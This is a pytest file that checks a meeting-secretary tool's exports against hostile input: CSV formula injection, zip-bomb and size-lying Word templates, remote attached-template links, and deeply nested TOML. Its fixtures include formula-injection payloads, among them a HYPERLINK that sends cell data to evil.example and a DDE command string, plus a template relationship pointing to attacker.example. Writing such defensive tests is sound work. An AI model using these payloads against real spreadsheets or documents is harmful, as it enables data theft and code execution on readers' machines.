"""Exports that cannot be turned against their readers (issue 17, point 10):
CSV cells neutralised against formula injection; Word templates read within
limits, unused parts dropped, external template links removed; bad templates
and deeply nested terms files a one-line message."""

from __future__ import annotations

import csv
import io
import re
import resource
import zipfile
from pathlib import Path

import pytest
from docx import Document

from secretary.cli.main import main
from secretary.export import TemplateError
from secretary.export.csvsafe import safe_cell
from secretary.export.styles import open_template

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_neutralised(cell):
    assert safe_cell(cell) == "'" + cell


def test_ordinary_cells_and_numbers_are_unchanged():
    for cell in ("Dr Huw Davies", "£18,500", "2026-05-14", "", "O'Neill", 5, -3, 2.5, None):
        assert safe_cell(cell) == cell


def test_reports_csv_neutralise_names():
    """A person, organisation, meeting and interest named like formulas, through
    the real register's CSV."""
    from secretary.domain.interests import InterestEntry
    from secretary.domain.series import MeetingRef
    from secretary.domain.text import Name
    from secretary.export.interests import interests_csv

    entry = InterestEntry(
        person="p1",
        name=HOSTILE[1],
        organisation=HOSTILE[0],
        meeting=MeetingRef(1, "u", "@title", "2026-05-14"),
        item=None,
        item_reference="",
        item_title=Name("=2+2"),
        interest="+44 shares",
        action="none",
    )
    rows = list(csv.reader(io.StringIO(interests_csv([entry]).decode("utf-8-sig"))))
    cells = rows[1]
    assert "'" + HOSTILE[1] in cells and "'" + HOSTILE[0] in cells and "'+44 shares" in cells
    assert "'=2+2" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


# --------------------------------------------------------------------------- templates


def plain_docx() -> bytes:
    d = Document()
    d.add_paragraph("Letterhead")
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def repack(path: Path, edit=None, extra: dict[str, bytes] | None = None) -> Path:
    src = zipfile.ZipFile(io.BytesIO(plain_docx()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name in src.namelist():
            content = src.read(name)
            if edit is not None:
                content = edit(name, content)
            out.writestr(name, content)
        for name, content in (extra or {}).items():
            out.writestr(name, content)
    return path


def test_a_zip_bomb_template_is_refused_without_unpacking_it(tmp_path):
    bomb = repack(tmp_path / "bomb.docx", extra={"word/media/big.bin": b"\0" * (400 << 20)})
    assert bomb.stat().st_size < 2 << 20  # small on disk
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TemplateError, match="too large") as err:
        open_template(bomb)
    assert str(bomb) in str(err.value) and "\n" not in str(err.value)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100


def test_a_part_that_lies_about_its_size_is_still_limited(tmp_path):
    path = repack(tmp_path / "liar.docx", extra={"word/media/big.bin": b"\0" * (40 << 20)})
    data = bytearray(path.read_bytes())
    # Rewrite the declared uncompressed size (central directory and local header) to 1 KB.
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("word/media/big.bin")
    real = (40 << 20).to_bytes(4, "little")
    data = bytearray(bytes(data).replace(real, (1024).to_bytes(4, "little")))
    path.write_bytes(bytes(data))
    assert zipfile.ZipFile(path).getinfo("word/media/big.bin").file_size == 1024
    assert info.file_size == 40 << 20
    with pytest.raises(TemplateError):
        open_template(path)


def test_unused_parts_and_the_external_template_link_are_dropped(tmp_path):
    def attach(name: str, content: bytes) -> bytes:
        if name == "word/settings.xml":
            content = content.replace(
                b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>'
            )
        if name == "word/_rels/document.xml.rels":
            pass
        return content

    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http:'
        b"//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        b'" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    path = repack(
        tmp_path / "attached.docx",
        attach,
        {"word/_rels/settings.xml.rels": settings_rels, "customXml/secret.xml": b"<x>old</x>"},
    )
    doc = open_template(path)
    out = io.BytesIO()
    doc.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
        names = z.namelist()
        everything = b"".join(z.read(n) for n in names)
    assert "customXml/secret.xml" not in names
    assert b"attacker.example" not in everything
    assert not re.search(rb"attachedTemplate", everything)


def test_a_template_without_section_properties_works(tmp_path):
    def strip(name: str, content: bytes) -> bytes:
        if name == "word/document.xml":
            return re.sub(rb"<w:sectPr.*?</w:sectPr>", b"", content, flags=re.S)
        return content

    path = repack(tmp_path / "nosect.docx", strip)
    doc = open_template(path)
    assert len(doc.sections) == 1


def test_export_with_hostile_templates_is_one_line(tmp_path, capsys, worked_example):
    db = tmp_path / "r.sqlite"
    assert main(["replay", str(worked_example), "--db", str(db)]) == 0
    capsys.readouterr()
    bomb = repack(tmp_path / "bomb.docx", extra={"word/media/big.bin": b"\0" * (400 << 20)})
    code = main(
        [
            "export",
            "--db",
            str(db),
            "--meeting",
            "1",
            "--template",
            str(bomb),
            "--minutes",
            str(tmp_path / "m.docx"),
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and len(err.strip().splitlines()) == 1 and "too large" in err


def test_a_terms_file_nested_a_thousand_deep_is_one_line(tmp_path, capsys):
    for i, text in enumerate(
        ["x = " + "[" * 1000 + "]" * 1000, "x = " + "{a = " * 1000 + "1" + "}" * 1000]
    ):
        path = tmp_path / f"deep{i}.toml"
        path.write_text(text + "\n", encoding="utf-8")
        code = main(["terms", "check", str(path)])
        err = capsys.readouterr().err
        assert code == 2 and "nested too deeply" in err and len(err.strip().splitlines()) == 1
